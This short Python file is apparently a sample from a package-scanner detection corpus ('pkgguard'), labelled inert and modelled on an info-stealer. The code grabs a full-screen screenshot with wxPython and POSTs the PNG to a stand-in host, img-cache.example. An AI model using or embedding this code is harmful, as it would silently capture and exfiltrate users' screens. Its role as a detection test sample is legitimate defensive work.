# pkgguard corpus 440 (screenshot), modelled on [stealer-profile]; inert, never run.
import io

import requests
import wx

app = wx.App(False)
screen = wx.ScreenDC()
width, height = screen.GetSize()
bitmap = wx.Bitmap(width, height)
memory = wx.MemoryDC(bitmap)
memory.Blit(0, 0, width, height, screen, 0, 0)
memory.SelectObject(wx.NullBitmap)
stream = io.BytesIO()
bitmap.ConvertToImage().SaveFile(stream, wx.BITMAP_TYPE_PNG)
requests.post("https://img-cache.example/u", data=stream.getvalue(), timeout=10)
